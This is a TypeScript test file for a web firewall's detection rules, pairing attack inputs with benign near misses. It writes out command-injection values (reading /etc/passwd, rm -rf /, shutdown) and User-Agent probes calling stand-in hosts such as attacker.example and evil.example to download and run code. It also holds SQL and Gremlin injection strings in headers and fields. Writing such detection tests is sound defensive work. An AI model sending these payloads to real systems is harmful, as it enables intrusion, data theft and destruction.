/**
 * Bundled rules of rev 2026-12-08u (msg23, session 23): an injected command closing a value after prose,
 * a shell probe as a User-Agent comment item, and SQL in a client-address header. The lead's session-22
 * probes of message fields (`hi $(id)`, `love it; shutdown -r now`, `hey rm -rf / --no-preserve-root`),
 * of UA comments (`curl/7.0 (x; sleep 10)`) and of headers (`X-Forwarded-For: drop table users`) passed
 * whole: the model scores them under 0.25 and the rules before these read the command only after a short
 * value without spaces. Each near miss is prose, a shell line or a real client naming the same thing.
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { form, header, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const ua = (value: string): RequestSpec => ({ url: '/products?page=2', headers: [['Host', 'shop.example.com'], ['User-Agent', value]] });
const message = (text: string): RequestSpec => json(JSON.stringify({ message: text, thread: '12' }));

const CASES: RuleCase[] = [
  [9000380, 'block', 'a $( ) probe closing a JSON message', message('hi $(id)'), message('try sudo chown -R $(whoami) /usr/local')],
  [9000380, 'block', 'a $( ) probe closing a form comment', form('comment=hi+%24%28id%29&thread=12'), form('comment=docker+run+--user+%24%28id+-u%29%3A%24%28id+-g%29+app&thread=12')],
  [9000380, 'block', 'a time probe in a query', q('q=nice%20%24%28sleep%205%29'), q('q=what%20does%20%24%28sleep%205%29%20do%20in%20bash')],
  [9000380, 'block', 'cat of a system file', message('see $(cat /etc/passwd)'), message('Explain this bash: `for f in $(ls *.txt); do cat "$f"; done`')],
  [9000380, 'block', 'uname with an option', message('thanks $(uname -a)'), message('use `$(whoami)` in the path')],
  [9000381, 'block', 'shutdown -r now after a separator', message('love it; shutdown -r now'), message('the box hung; reboot fixed it')],
  [9000381, 'block', 'reboot after && in a form', form('message=nice+work+%26%26+reboot&thread=12'), form('message=power+actions%3A+start+%7C+stop+%7C+reboot&thread=12')],
  [9000381, 'block', 'halt after a separator', message('great post; halt'), message('run `apt upgrade && reboot` after the patch')],
  [9000381, 'block', 'rm -rf of the root after a separator', message('thanks; rm -rf /'), message('make clean; rm -rf ./dist /tmp/cache')],
  [9000381, 'block', 'init 0 after a separator', q('comment=bye%3B%20init%200'), q('comment=set%20it%20to%20init%200%20and%20see')],
  [9000382, 'block', 'rm -rf / --no-preserve-root closing a message', message('hey rm -rf / --no-preserve-root'), message('never run `sudo rm -rf / --no-preserve-root`, it wipes the disk')],
  [9000382, 'block', 'the flag before the root in a form', form('description=hey+rm+-rf+--no-preserve-root+%2F&thread=12'), form('description=rm+-rf+%2Ftmp%2Fbuild&thread=12')],
  [9000383, 'block', 'sleep as a comment item', ua('curl/7.0 (x; sleep 10)'), ua('SleepCycle/5.21 (iPhone; iOS 17.5; Scale/3.00)')],
  [9000383, 'block', 'nslookup of an outside name', ua('Mozilla/5.0 (compatible; nslookup attacker.example)'), ua('Mozilla/5.0 (compatible; Pingdom.com_bot_version_1.4; +http://www.pingdom.com/)')],
  [9000383, 'block', 'a download then sh', ua('Mozilla/5.0 (compatible; wget http:evil.example/x; sh x)'), ua('Wget/1.21.4 (linux-gnu)')],
  [9000383, 'block', 'whoami as an item', ua('Mozilla/5.0 (X11; whoami; Linux x86_64)'), ua('Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10')],
  [9000182, 'block', 'DROP TABLE in X-Forwarded-For', header('X-Forwarded-For', 'drop table users'), header('X-Forwarded-For', '203.0.113.7, 10.0.0.2')],
  [9000182, 'block', 'a stacked DELETE in X-Real-IP', header('X-Real-IP', '1; delete from users'), header('Forwarded', 'for="_hidden";by=_proxy;proto=https')],
  [9000182, 'block', 'UNION SELECT in True-Client-IP', header('True-Client-IP', '1 union select password from users'), header('X-Client-IP', 'unknown')],
  [9001380, 'block', 'a Gremlin break-out then drop and a second traversal', json(JSON.stringify({ name: "x').drop().iterate();g.V().has('name','x" })), json(JSON.stringify({ gremlin: "g.V().has('name','x').drop()" }))],
  [9001380, 'block', 'a Gremlin break-out in a form value', form('name=x%27%29.property%28%27role%27%2C%27admin%27%29.iterate%28%29'), form("name=O%27Brien&note=see+getById('x').then(done)")],
  // The Referer is none of its headers: a site search's address quotes what was searched.
  [9000182, 'block', 'DELETE FROM in X-Originating-IP', header('X-Originating-IP', 'delete from users'), header('Referer', 'https://shop.example.test/?q=drop%20table%20users')],
];

describe('bundled rules of rev 2026-12-08u (a command closing a value after prose, UA comment probes, SQL in address headers)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});

